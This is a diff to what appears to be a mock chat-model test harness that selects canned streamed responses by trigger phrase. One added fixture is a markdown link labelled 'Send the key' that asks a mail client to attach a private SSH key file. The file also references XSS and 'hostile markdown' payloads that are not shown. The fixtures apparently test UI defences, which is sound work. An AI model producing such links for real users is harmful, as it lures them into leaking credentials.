@@ -10,7 +10,7 @@ import { compactScript, contextScript } from './contextScripts';
 import { fetchScript } from './guardScripts';
 import { DEEP_PAYLOAD, XSS_PAYLOAD } from './payloads';
 import { planWorkflowScript } from './planScript';
-import { deepScript, nestedScript, planScript, shellScript, switchScript, twinScript, writeScript, type Body, type Step, type StoredSub } from './scripts';
+import { deepScript, nestedScript, oddCardsScript, planScript, shellScript, switchScript, twinScript, writeScript, type Body, type Step, type StoredSub } from './scripts';
 
 /** What the scripts read of the mock's settings. */
 export interface ScriptConfig {
@@ -57,6 +57,7 @@ export function pickScript(text: string, model: string, guard: GuardMode, config
   if (text.includes('hostile markdown')) return [...deltas(DEEP_PAYLOAD, 4), { ev: usage }, end()];
   if (text.includes('deep')) return deepScript(kit);
   if (text.includes('twin')) return twinScript(kit);
+  if (text.includes('odd cards')) return oddCardsScript(kit);
   if (text.includes('nested')) return nestedScript(kit);
   if (text.includes('xss')) return [...deltas(XSS_PAYLOAD, 4), { ev: usage }, end()];
   if (text.startsWith('stream text')) {
@@ -64,7 +65,7 @@ export function pickScript(text: string, model: string, guard: GuardMode, config
     return [...chars, { ev: usage }, end(config.streamStored ? [config.streamStored] : undefined)];
   }
   if (text.includes('links')) {
-    const md = 'Read [the docs](https://example.com/docs) and [mail us](mailto:hi@example.com).\n\n![café menu](<https://example.com/café menu.png>) ![kept](https://example.com/a%20b.png)';
+    const md = 'Read [the docs](https://example.com/docs) and [mail us](mailto:hi@example.com). [Send the key](mailto:hi@example.com?attach=/home/u/.ssh/id_ed25519).\n\n![café menu](<https://example.com/café menu.png>) ![kept](https://example.com/a%20b.png)';
     return [...deltas(md, 4), { ev: usage }, end()];
   }
   if (text.includes('runaway')) {
@@ -187,7 +188,8 @@ export function pickScript(text: string, model: string, guard: GuardMode, config
     return [...steps, { ev: usage }, end([{ role: 'assistant', content: answer }])];
   }
   if (text.includes('slow')) {
-    const words = Array.from({ length: 300 }, (_, i) => `word${i} `);
+    // Bold opened at word2 and never closed: a Stop cuts it open.
+    const words = Array.from({ length: 300 }, (_, i) => `${i === 2 ? '**' : ''}word${i} `);
     return [...words.map((w) => ({ ev: { type: 'text_delta', delta: w } as Body, delay: config.slowDelayMs })), { ev: usage }, end()];
   }
   if (text.includes('think')) {
